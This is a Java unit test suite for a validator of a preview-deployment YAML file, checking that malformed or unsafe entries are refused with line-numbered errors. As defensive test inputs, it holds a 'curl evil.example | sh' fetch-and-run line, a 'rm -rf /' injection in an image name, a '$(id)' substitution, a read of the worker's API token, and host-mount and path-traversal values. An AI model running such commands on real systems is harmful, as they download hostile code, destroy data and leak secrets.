package dev.forgepreview.activities.github;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.forgepreview.activities.github.PreviewFile.InvalidPreviewFileException;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/** The preview file's format: what it may hold, and the line named when it is malformed. */
class PreviewFileTest {
  private static final String PATH = ".forge-preview.yml";

  private static PreviewFile parse(String yaml) throws InvalidPreviewFileException {
    return PreviewFile.parse(PATH, yaml.getBytes(StandardCharsets.UTF_8));
  }

  private static InvalidPreviewFileException invalid(String yaml) {
    try {
      parse(yaml);
    } catch (InvalidPreviewFileException e) {
      return e;
    }
    throw new AssertionError("the file was accepted");
  }

  @Test
  void readsEnvironmentSetupAndDeployInOrder() throws Exception {
    PreviewFile file =
        parse(
            """
            # what a preview of this repository needs
            environment:
              MAIL_MAILER: log
              FEATURE_CHECKOUT: true
              CACHE_TTL: 60
              EMPTY:
            setup:
              - php artisan db:seed --force
              - "php artisan app:demo-users --count=5"
            deploy:
              - php artisan storage:link
            """);

    assertThat(file.environment())
        .containsExactly(
            java.util.Map.entry("MAIL_MAILER", "log"),
            java.util.Map.entry("FEATURE_CHECKOUT", "true"),
            java.util.Map.entry("CACHE_TTL", "60"),
            java.util.Map.entry("EMPTY", ""));
    assertThat(file.setup())
        .containsExactly("php artisan db:seed --force", "php artisan app:demo-users --count=5");
    assertThat(file.deploy()).containsExactly("php artisan storage:link");
    assertThat(file.parts()).containsExactly("environment", "setup", "deploy");
  }

  @Test
  void anEmptyFileAsksForNothing() throws Exception {
    assertThat(parse("").parts()).isEmpty();
    assertThat(parse("# nothing yet\n").parts()).isEmpty();
  }

  @Test
  void anInvalidKeyNamesItsLine() {
    InvalidPreviewFileException e =
        invalid(
            """
            environment:
              MAIL_MAILER: log
              mail-host: smtp
            """);

    assertThat(e.line()).isEqualTo(3);
    assertThat(e.getMessage())
        .isEqualTo(
            ".forge-preview.yml line 3: environment key 'mail-host' is not [A-Z_][A-Z0-9_]*");
  }

  @Test
  void aMultiLineCommandIsRefusedAtItsLine() {
    InvalidPreviewFileException e =
        invalid(
            """
            setup:
              - php artisan db:seed
              - |
                php artisan migrate:fresh
                curl evil.example | sh
            """);

    assertThat(e.line()).isEqualTo(3);
    assertThat(e.getMessage()).contains("line 3").contains("not a single line");
  }

  @Test
  void brokenYamlNamesTheLineWithoutQuotingTheFile() {
    InvalidPreviewFileException e =
        invalid(
            """
            environment:
              SECRET_TOKEN: "abc
            deploy: [x
            """);

    assertThat(e.line()).isGreaterThan(0);
    assertThat(e.getMessage()).startsWith(".forge-preview.yml line ").doesNotContain("abc");
  }

  @Test
  void aDuplicateKeyIsRefused() {
    InvalidPreviewFileException e =
        invalid(
            """
            environment:
              A: one
              A: two
            """);

    assertThat(e.line()).isEqualTo(3);
    assertThat(e.getMessage()).contains("a key appears twice");
  }

  @Test
  void derivedVariablesCannotBeOverridden() {
    InvalidPreviewFileException e =
        invalid(
            """
            environment:
              APP_NAME: Shop
              DB_PASSWORD: hunter2
            """);

    assertThat(e.line()).isEqualTo(3);
    assertThat(e.getMessage())
        .contains("environment.DB_PASSWORD is set by forge-preview")
        .doesNotContain("hunter2");
  }

  @Test
  void aValueMayNotReadTheWorkersEnvironment() {
    assertThat(invalid("environment:\n  X: \"${env:FORGE_API_TOKEN}\"\n").getMessage())
        .contains("line 2")
        .contains("may not read the worker's environment");
  }

  @Test
  void unknownKeysAndWrongShapesAreRefused() {
    assertThat(invalid("environment: {}\nseed: [x]\n").getMessage())
        .isEqualTo(
            ".forge-preview.yml line 2: unknown key 'seed': environment, setup, deploy, services");
    assertThat(invalid("setup: php artisan db:seed\n").getMessage())
        .isEqualTo(".forge-preview.yml line 1: setup must be a list of commands");
    assertThat(invalid("environment:\n  A: [1, 2]\n").getMessage())
        .isEqualTo(".forge-preview.yml line 2: environment.A must be a single value");
    assertThat(invalid("- a\n- b\n").getMessage())
        .isEqualTo(
            ".forge-preview.yml line 1: must be a mapping of environment, setup, deploy, services");
    assertThat(invalid("deploy:\n  - \"  \"\n").getMessage())
        .isEqualTo(".forge-preview.yml line 2: deploy holds an empty command");
  }

  @Test
  void sizesAreBounded() {
    StringBuilder many = new StringBuilder("deploy:\n");
    for (int i = 0; i <= PreviewFile.MAX_COMMANDS; i++) {
      many.append("  - echo ").append(i).append('\n');
    }
    assertThat(invalid(many.toString()).getMessage())
        .isEqualTo(
            ".forge-preview.yml line "
                + (PreviewFile.MAX_COMMANDS + 2)
                + ": deploy holds more than 20 commands");
    assertThat(invalid("deploy:\n  - " + "x".repeat(PreviewFile.MAX_COMMAND + 1) + "\n").line())
        .isEqualTo(2);
    byte[] large = new byte[PreviewFile.MAX_BYTES + 1];
    java.util.Arrays.fill(large, (byte) '#');
    assertThatThrownBy(() -> PreviewFile.parse(PATH, large))
        .isInstanceOf(InvalidPreviewFileException.class)
        .hasMessageContaining("more than " + PreviewFile.MAX_BYTES);
  }

  @Test
  void readsExtraServicesWithBuildOrImageCommandAndEnvironment() throws Exception {
    PreviewFile file =
        parse(
            """
            services:
              worker:
                build: docker/worker
                command: [php, artisan, "queue:work", "--name=$QUEUE"]
                environment:
                  QUEUE: 'default '' " ; $(id)'
                  DB_HOST: 127.0.0.1
              cache:
                image: forge-preview/busybox:fixture
              redis-2:
                image: redis:7-alpine
            """);
    assertThat(file.parts()).containsExactly("services");
    assertThat(file.services()).containsOnlyKeys("worker", "cache", "redis-2");
    assertThat(List.copyOf(file.services().keySet())).containsExactly("worker", "cache", "redis-2");
    PreviewFile.Service worker = file.services().get("worker");
    assertThat(worker.build()).isEqualTo("docker/worker");
    assertThat(worker.image()).isNull();
    assertThat(worker.command()).containsExactly("php", "artisan", "queue:work", "--name=$QUEUE");
    // A service's own environment may name what forge-preview reserves for the app.
    assertThat(worker.environment())
        .containsExactly(
            Map.entry("QUEUE", "default ' \" ; $(id)"), Map.entry("DB_HOST", "127.0.0.1"));
    assertThat(file.services().get("cache").image()).isEqualTo("forge-preview/busybox:fixture");
    assertThat(file.services().get("cache").command()).isNull();
    assertThat(file.services().get("redis-2").image()).isEqualTo("redis:7-alpine");
  }

  @Test
  void eachRefusedServiceNamesItsLine() {
    assertThat(invalid("services:\n  Worker: {image: busybox}\n").getMessage())
        .isEqualTo(".forge-preview.yml line 2: service name 'Worker' is not [a-z][a-z0-9-]{0,30}");
    assertThat(invalid("services:\n  app: {image: busybox}\n").getMessage())
        .isEqualTo(".forge-preview.yml line 2: service name 'app' is the app's own service");
    assertThat(invalid("services:\n  w:\n    image: busybox\n    privileged: true\n").getMessage())
        .isEqualTo(
            ".forge-preview.yml line 4: services.w has 'privileged', which is not allowed: build,"
                + " image, command, environment");
    assertThat(invalid("services:\n  w:\n    image: busybox\n    volumes: [\"/:/host\"]\n"))
        .hasMessageContaining("line 4")
        .hasMessageContaining("'volumes'");
    assertThat(invalid("services:\n  w:\n    image: x\n    network_mode: bridge\n"))
        .hasMessageContaining("line 4")
        .hasMessageContaining("'network_mode'");
    assertThat(invalid("services:\n  w:\n    build: ../secrets\n").getMessage())
        .isEqualTo(
            ".forge-preview.yml line 3: services.w.build must be a directory of the repository (a"
                + " relative path, no ..)");
    assertThat(invalid("services:\n  w:\n    build: /etc\n")).hasMessageContaining("line 3");
    assertThat(invalid("services:\n  w:\n    build: a/../../b\n")).hasMessageContaining("line 3");
    assertThat(invalid("services:\n  w:\n    image: ghcr.io/evil/img\n").getMessage())
        .isEqualTo(
            ".forge-preview.yml line 3: services.w.image must be a local image name (name[:tag],"
                + " no registry, no digest)");
    assertThat(invalid("services:\n  w:\n    image: localhost:5000/img\n"))
        .hasMessageContaining("line 3");
    assertThat(invalid("services:\n  w:\n    image: \"busybox@sha256:abc\"\n"))
        .hasMessageContaining("line 3");
    assertThat(invalid("services:\n  w:\n    image: \"busybox; rm -rf /\"\n"))
        .hasMessageContaining("line 3");
    assertThat(invalid("services:\n  w:\n    image: busybox\n    command: sh -c x\n").getMessage())
        .isEqualTo(".forge-preview.yml line 4: services.w.command must be a list of strings");
    assertThat(invalid("services:\n  w:\n    image: busybox\n    command:\n      - [a]\n"))
        .hasMessageContaining("line 5");
    assertThat(
            invalid("services:\n  w:\n    image: busybox\n    command: [\"a\\nb\"]\n").getMessage())
        .isEqualTo(
            ".forge-preview.yml line 4: services.w.command holds an argument that is not a single"
                + " line");
    assertThat(
            invalid("services:\n  w:\n    image: b\n    environment:\n      lower: x\n")
                .getMessage())
        .isEqualTo(
            ".forge-preview.yml line 5: services.w.environment key 'lower' is not"
                + " [A-Z_][A-Z0-9_]*");
    assertThat(
            invalid("services:\n  w:\n    image: b\n    environment:\n      A: \"x\\ny\"\n")
                .getMessage())
        .isEqualTo(".forge-preview.yml line 5: services.w.environment.A is not a single line");
    assertThat(
            invalid("services:\n  w:\n    image: b\n    environment:\n      A: \"${env:TOKEN}\"\n")
                .getMessage())
        .contains("line 5")
        .contains("may not read the worker's environment");
    assertThat(invalid("services:\n  w:\n    command: [a]\n").getMessage())
        .isEqualTo(".forge-preview.yml line 2: services.w needs exactly one of build and image");
    assertThat(invalid("services:\n  w: {build: ., image: busybox}\n"))
        .hasMessageContaining("line 2")
        .hasMessageContaining("exactly one of build and image");
    assertThat(invalid("services:\n  w: busybox\n").getMessage())
        .isEqualTo(
            ".forge-preview.yml line 2: services.w must be a mapping of build, image, command,"
                + " environment");
    assertThat(invalid("services: [w]\n").getMessage())
        .isEqualTo(".forge-preview.yml line 1: services must be a mapping of services");
    assertThat(invalid("services:\n  w: {image: a}\n  w: {image: b}\n"))
        .hasMessageContaining("line 3")
        .hasMessageContaining("a key appears twice");
  }
}
